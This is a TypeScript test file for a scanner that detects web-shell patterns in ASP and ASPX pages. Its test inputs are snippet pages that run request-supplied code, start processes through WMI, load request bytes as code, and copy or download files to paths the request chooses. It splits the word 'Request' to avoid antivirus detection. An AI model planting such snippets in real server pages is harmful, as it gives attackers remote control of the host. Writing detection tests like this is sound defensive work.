import assert from 'node:assert/strict'
import { test } from 'node:test'
import { pageFlow } from '../../src/rules/page-flow.ts'

// Put together from pieces, so that this file holds no page that a virus scanner would take away.
const R = ['Req', 'uest'].join('')
const cs = (code: string): string =>
  `<%@ Page Language="C#" %><script runat="server">void Page_Load(object o, EventArgs e) { ${code} }</script>`
const rulesOf = (page: string): string[] =>
  pageFlow
    .scan(Buffer.from(page))
    .map(({ rule }) => rule)
    .sort()

for (const [what, page, rules] of [
  ['a function made of text', `<%@ Page Language="JScript" %><%new Function(${R}.Form("z"))()%>`, ['flow-evaluates']],
  [
    'a process made through WMI, in Basic',
    `<% GetObject("winmgmts:root/cimv2:Win32_Process").Create ${R}("c"), null, null, id %>`,
    ['flow-starts-through-wmi'],
  ],
  [
    'a process made through WMI, in C#',
    cs(`var p = new ManagementClass("Win32_Process"); p.InvokeMethod("Create", new object[] { ${R}["c"] });`),
    ['flow-starts-through-wmi'],
  ],
  ['an object by its name', `<% Set a = CreateObject(${R}("o")) %>`, ['flow-makes-object']],
  [
    'a member by its name',
    cs(`var t = Type.GetType(${R}["t"]); t.InvokeMember(${R}["m"], f, null, null, new object[] { 1 });`),
    ['flow-makes-object'],
  ],
  [
    'code handed over in a list of arguments',
    cs(
      `byte[] b = ${R}.BinaryRead(9); foreach (var m in typeof(Assembly).GetMethods()) { m.Invoke(null, new object[] { b }); }`,
    ),
    ['flow-loads-code'],
  ],
  ['a copy to where the request says', cs(`File.Copy("a.txt", ${R}["to"], true);`), ['flow-puts-where-asked']],
  [
    'a download to where the request says',
    cs(`var to = ${R}["to"]; new WebClient().DownloadFile("http://192.0.2.1/a", to);`),
    ['flow-fetches', 'flow-puts-where-asked'],
  ],
  ['a copy between places of the page', cs(`File.Copy(Server.MapPath("a"), Server.MapPath("b")); x = ${R}["a"];`), []],
  ['a class that the page names', cs(`var t = Type.GetType("A.B"); Activator.CreateInstance(t, ${R}["a"]);`), []],
  ['an object that the page names', `<% Set a = CreateObject("ADODB.Recordset") : b = ${R}("c") %>`, []],
  ['a question to WMI', cs(`var s = new ManagementObjectSearcher("select * from Win32_Process"); w(${R}["a"]);`), []],
  ['a list of what the request brings', cs(`var list = new string[] { ${R}["a"] }; Response.Write(list[0]);`), []],
] as const) {
  test(`${what}: ${rules.join(', ') || 'nothing'}`, () => assert.deepEqual(rulesOf(page), rules))
}

test('an open list does not hide what comes behind it', () => {
  const page = cs(`var a = new int[] { 1, 2; File.Copy("a", ${R}["to"]);`)
  assert.deepEqual(rulesOf(page), ['flow-puts-where-asked'])
})
